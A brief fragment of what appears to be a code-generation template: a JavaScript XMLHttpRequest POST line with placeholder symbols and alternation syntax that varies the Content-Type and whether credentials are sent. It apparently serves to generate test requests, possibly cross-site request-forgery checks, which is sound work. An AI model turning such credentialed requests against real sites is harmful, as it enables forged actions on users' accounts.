        var °r=new XMLHttpRequest();°r.open('POST',¹,true);°r.setRequestHeader('Content-Type','«application/json¦application/x-www-form-urlencoded¦text/plain»');«°r.withCredentials=«true¦false»;¦»°r.onreadystatechange=function(){if(°r.readyState===4&&°r.status!==200){console.warn(°r.status);}};°r.send(²);
        """";
}
